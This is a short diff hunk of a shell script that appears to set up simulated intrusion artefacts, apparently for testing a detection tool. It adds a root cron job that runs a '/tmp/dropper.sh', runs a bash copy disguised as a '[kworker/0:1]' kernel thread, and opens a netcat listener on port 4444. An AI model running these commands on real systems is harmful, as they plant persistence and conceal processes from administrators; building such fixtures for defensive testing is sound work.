@@ -27,7 +27,7 @@ mkdir -p /etc/cron.d && echo "* * * * * root /tmp/dropper.sh" > /etc/cron.d/shop
 mkfifo /tmp/.cache/wait
 cp /bin/bash /tmp/.x
 bash -c 'exec -a "[kworker/0:1]" /tmp/.x -c "exec 9<>/tmp/.cache/wait; while :; do read -t 1 -u 9; done"' &
-until grep -q kworker /proc/$!/cmdline; do usleep 10000; done
+until grep -q "^.kworker" /proc/$!/cmdline; do usleep 10000; done
 rm /tmp/.x
 nc -ll -p 4444 -e /bin/cat &
 until grep -q ":115C " /proc/net/tcp /proc/net/tcp6; do usleep 10000; done
